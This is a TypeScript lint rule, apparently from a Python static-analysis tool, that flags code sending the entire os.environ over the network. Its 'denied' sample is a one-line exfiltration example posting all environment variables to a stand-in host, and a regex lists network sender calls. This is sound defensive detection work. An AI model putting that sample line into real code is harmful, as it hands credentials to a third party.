import { childOf, descendantsOf, type SyntaxNode, textOf } from '../../parse/syntax-tree.ts';
import type { PythonFacts } from '../../python/python-facts.ts';
import type { PythonRule } from '../../rule.ts';

const senders =
  /(?:^|\.)(?:post|put|patch|request|send|sendall|sendto|sendmail|urlopen|Request|get|urlencode|storbinary)$/;

export const environmentLeak: PythonRule = {
  id: 'py-environment-leak',
  severity: 'high',
  title: 'It sends the environment away.',
  cause: 'Credentials are passed in the environment, so that is what a thief takes first.',
  explanation:
    '`os.environ` as a whole, also by way of names, in what is sent over the network. Single variables are fine.',
  hint: 'Print what you compute; leave the environment alone.',
  denied: 'import os, requests\nrequests.post("http://a.example", json=dict(os.environ))\n',
  allowed: 'import os\nprint(os.environ["HOME"])\n',
  *find(facts) {
    if (!facts.usesNetwork || !facts.tree.source.includes('environ')) return;
    const carriers = namesOfEnvironment(facts);
    for (const node of facts.byType.get('call') ?? []) {
      const [target, given] = [childOf(node, 'function'), childOf(node, 'arguments')];
      if (target === null || given === null || !senders.test(textOf(facts.tree, target))) continue;
      if (hasEnvironment(facts, given, carriers)) yield { node };
    }
  },
};

function namesOfEnvironment(facts: PythonFacts): Set<string> {
  const carriers = new Set<string>();
  for (const node of facts.byType.get('assignment') ?? []) {
    const [target, source] = [childOf(node, 'left'), childOf(node, 'right')];
    if (target?.type !== 'identifier' || source === null) continue;
    if (hasEnvironment(facts, source, carriers)) carriers.add(textOf(facts.tree, target));
  }
  return carriers;
}

/** The environment as a whole: not one variable of it, by index or `get`. */
function hasEnvironment({ tree }: PythonFacts, node: SyntaxNode, carriers: ReadonlySet<string>): boolean {
  return [node, ...descendantsOf(node, 100)].some((part) => {
    if (part.type === 'identifier' && carriers.has(textOf(tree, part))) return true;
    if (part.reference !== 'os.environ' || part.parent?.type === 'subscript') return false;
    const member = part.parent?.type === 'attribute' ? childOf(part.parent, 'attribute') : null;
    return member === null || /^(?:items|copy|values)$/.test(textOf(tree, member));
  });
}
